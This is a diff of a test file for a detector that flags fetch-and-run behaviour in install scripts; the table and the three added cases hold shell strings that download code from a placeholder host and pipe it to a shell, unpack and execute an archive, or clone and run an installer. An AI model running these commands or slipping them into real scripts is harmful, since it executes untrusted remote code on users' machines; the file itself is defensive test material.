@@ -18,6 +18,9 @@ test.each([
   ["a decoded command", `echo ${base64("curl -s https://tools.sample.dev/x | bash")} | base64 -d | sh`],
   ["a here-document", "bash <<'EOF'\ncurl -s https://tools.sample.dev/x | sh\nEOF"],
   ["a condition", "if true; then curl -s https://tools.sample.dev/x | sh; fi"],
+  ["an archive", "curl -Lo a.zip https://tools.sample.dev/a.zip\nunzip a.zip\nchmod +x ./a && ./a"],
+  ["a clone", "git clone https://tools.sample.dev/a.git && cd a && ./install.sh"],
+  ["a group", "(curl -s https://tools.sample.dev/x) | sh"],
   ["xargs", "echo a | xargs -n 1 sh -c 'curl -s https://tools.sample.dev/x | sh'"],
 ])("what is fetched and run is found by %s", (_, script) => {
   const deeds = deedsIn("install.sh", script);
